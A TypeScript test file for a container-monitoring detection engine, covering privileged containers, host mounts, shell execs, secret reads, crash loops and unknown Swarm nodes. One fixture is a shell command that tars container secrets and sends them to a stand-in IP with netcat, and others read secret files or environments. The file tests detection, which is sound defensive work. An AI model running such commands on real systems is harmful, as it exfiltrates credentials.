import type { Detection, Event } from '@suite/event';
import { describe, expect, it } from 'vitest';
import { imageName } from '../src/containers/container.ts';
import { createEngine, DEFAULT_SETTINGS } from '../src/index.ts';
import { detect, Lines } from './lines.ts';

const DAY = 86_400;

const made = (name: string, risk: string, more: Event = {}): Event => ({
  'event.action': 'container_created',
  'container.name': name,
  'container.image.name': `registry.lan:5000/${name}:1`,
  ...(risk === '' ? {} : { 'container.risk': risk }),
  ...more,
});
const atStart = { 'event.action': 'container_started', 'event.reason': 'at_start' };

const of = (rule: string, found: readonly Detection[]) => found.filter((d) => d.rule === rule);
const levels = (rule: string, lines: Lines) => of(rule, detect(lines)).map(({ level }) => level);
const settled = () => new Lines().add(made('blog', '', atStart)).wait(2 * DAY);

describe('risky containers', () => {
  it('make one list of level low for each node when TOM first looks', () => {
    const lines = new Lines();
    for (const name of ['netdata', 'proxmox', 'agent']) lines.add(made(name, 'privileged', atStart));
    lines.add(made('netdata', 'privileged', { ...atStart, 'host.name': 'node2' }));
    lines.add(made('backup', 'cap:SYS_ADMIN', { ...atStart, 'host.name': 'node2' }));
    const found = of('container-privileged', detect(lines));
    expect(new Set(found.map(({ level }) => level))).toEqual(new Set(['low']));
    expect(new Set(found.map(({ id }) => id)).size).toBe(2);
    expect(found.find((d) => d.entities['host.name'] === 'node2')!.reason).toContain(
      'backup (cap:SYS_ADMIN)',
    );
  });

  it('are told of once each after the first day, on whatever node, in whatever version', () => {
    const lines = settled().add(made('tool', 'privileged'));
    lines
      .wait(9)
      .add(made('tool', 'privileged', { 'event.action': 'container_started', 'host.name': 'node2' }));
    lines
      .wait(9)
      .add(made('tool', 'privileged', { 'container.image.name': 'registry.lan:5000/tool:2@sha256:00' }));
    expect(levels('container-privileged', lines)).toEqual(['high']);
  });

  it('are told of again when they get more rights, or another image under a known name', () => {
    const lines = settled()
      .add(made('tool', 'seccomp:unconfined'))
      .add(made('tool', 'privileged, seccomp:unconfined'));
    lines.add(made('tool', 'privileged', { 'container.image.name': 'evil/tool' }));
    expect(levels('container-privileged', lines)).toEqual(['medium', 'high', 'high']);
  });

  it('are known by their service whatever their tasks are called', () => {
    const task = (id: string): Event =>
      made(`agent.${id}.${id}`, 'docker-socket', { 'container.image.name': 'a' });
    const lines = settled().add(task('jp3cunl3kdak39kut5sf50rbb')).add(task('qtjzdyihy4d1ejn9j6bie2ufw'));
    expect(levels('container-docker-socket', lines)).toEqual(['medium']);
  });

  it('give root away by some mounts, secrets by others, nothing by most', () => {
    const of = (risk: string) => levels('container-host-mount', settled().add(made('x', risk)));
    for (const risk of ['mount:/:rw', 'mount:/etc/cron.d:rw', 'mount:/root/.ssh:rw', 'mount:/var/run:rw'])
      expect([risk, of(risk)]).toEqual([risk, ['high']]);
    for (const risk of ['mount:/:ro', 'mount:/etc/shadow:ro', 'mount:/home:ro'])
      expect([risk, of(risk)]).toEqual([risk, ['medium']]);
    for (const risk of ['mount:/var/log:ro', 'mount:/proc:ro', 'mount:/dev:ro', 'host-network'])
      expect([risk, of(risk)]).toEqual([risk, []]);
  });
});

describe('what is done in containers', () => {
  const exec = (command: string, more: Event = {}): Event => ({
    'event.action': 'container_exec',
    'container.name': 'db',
    'process.command_line': command,
    ...more,
  });

  it.each(['sh', 'bash', '/bin/sh', '/bin/bash -l', 'ash -i'])('notices %s as a shell, once', (command) => {
    expect(levels('container-exec-shell', settled().add(exec(command)).add(exec(command)))).toEqual(['low']);
  });

  it.each(['sh -c true', '/bin/bash /entry.sh', 'sshd', 'cat sh'])(
    'does not take %s for a shell',
    (command) => {
      expect(levels('container-exec-shell', settled().add(exec(command)))).toEqual([]);
    },
  );

  it.each([
    ['cat /run/secrets/db', 'medium'],
    ["/bin/sh -c 'tar c /var/run/secrets | nc 203.0.113.9 9'", 'medium'],
    ['printenv', 'low'],
    ['cat /proc/1/environ', 'low'],
  ])('notices that %s reads secrets', (command, level) => {
    expect(levels('container-secret-read', settled().add(exec(command)))).toEqual([level]);
  });

  it.each(['env FOO=1 app', 'ls /run/secretservice', 'pg_dump app'])(
    'does not think %s reads secrets',
    (command) => {
      expect(levels('container-secret-read', settled().add(exec(command)))).toEqual([]);
    },
  );

  it('counts failures and deaths for want of memory, and no stops', () => {
    const died = (code: number): Event => ({
      'event.action': 'container_stopped',
      'container.name': 'web',
      'container.exit_code': code,
    });
    const oom: Event = { 'event.action': 'container_event', 'event.reason': 'oom', 'container.name': 'web' };
    const lines = new Lines();
    for (const event of [died(1), died(139), oom, died(137), died(143), died(0), died(1), oom])
      lines.wait(60).add(event);
    const found = of('container-crash-loop', detect(lines));
    expect(found).toHaveLength(1);
    expect(found[0]!.reason).toContain('exit code 1, exit code 139, out of memory');
  });
});

describe('a node that joins the Swarm', () => {
  const node = (id: string, address: string, reason: string): Event => ({
    'event.action': 'swarm_node',
    'event.reason': reason,
    'swarm.node.id': id,
    'swarm.node.name': id,
    'source.address': address,
  });
  const known = () =>
    new Lines().add(node('a', '192.168.1.11', 'at_start')).add(node('b', '192.168.1.12', 'at_start'));

  it('is high from elsewhere, medium from next door and from the operator’s own addresses', () => {
    expect(levels('swarm-join-unknown', known().add(node('c', '203.0.113.6', 'joined')))).toEqual(['high']);
    expect(levels('swarm-join-unknown', known().add(node('c', '192.168.1.13', 'joined')))).toEqual([
      'medium',
    ]);
    const own = detect(known().add(node('c', '203.0.113.6', 'joined')), { allow: ['203.0.113.0/24'] });
    expect(of('swarm-join-unknown', own).map(({ level }) => level)).toEqual(['medium']);
  });

  it('is told of once though every manager tells of it', () => {
    const lines = known();
    for (const host of ['node1', 'node2', 'node3'])
      lines.add({ ...node('c', '203.0.113.6', 'joined'), 'host.name': host });
    expect(levels('swarm-join-unknown', lines)).toEqual(['high']);
  });
});

it('takes images by name, without version and Docker’s own registry', () => {
  expect(imageName('docker.io/library/nginx:1.27@sha256:ab')).toBe('nginx');
  expect(imageName('registry.lan:5000/team/app')).toBe('registry.lan:5000/team/app');
  expect(imageName('ghcr.io/a/b:v1')).toBe('ghcr.io/a/b');
});

it('goes on the same after a restart', () => {
  const lines = new Lines();
  for (let n = 0; n < 80; n++) {
    lines.wait(3_000).add(made(`s${n % 30}`, n % 3 === 0 ? 'privileged, docker-socket, mount:/etc:rw' : ''));
    lines.add({
      'event.action': 'container_exec',
      'container.name': `s${n % 7}`,
      'process.command_line': 'sh',
    });
    lines.add({ 'event.action': 'container_stopped', 'container.name': 's', 'container.exit_code': 1 });
  }
  const whole = detect(lines);
  const found: Detection[] = [];
  let engine = createEngine(DEFAULT_SETTINGS);
  lines.all.forEach((record, at) => {
    if (at % 40 === 20) {
      const state = JSON.parse(JSON.stringify(engine.snapshot()));
      engine = createEngine(DEFAULT_SETTINGS);
      engine.restore(state);
    }
    engine.observe(record, (d) => found.push(d));
  });
  expect(found).toEqual(whole);
});
